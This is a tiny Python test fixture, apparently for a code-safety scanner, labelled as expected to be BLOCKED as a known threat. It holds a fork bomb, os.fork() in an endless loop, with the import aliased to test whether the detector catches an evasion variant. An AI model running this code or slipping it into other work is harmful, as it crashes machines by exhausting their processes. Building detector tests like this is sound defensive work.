# expect: BLOCKED category: known_threat variant-of: risky/known_threat/fork_bomb_snippet.py technique: alias+concat
import os as _m0
while True:
    _m0.fork()
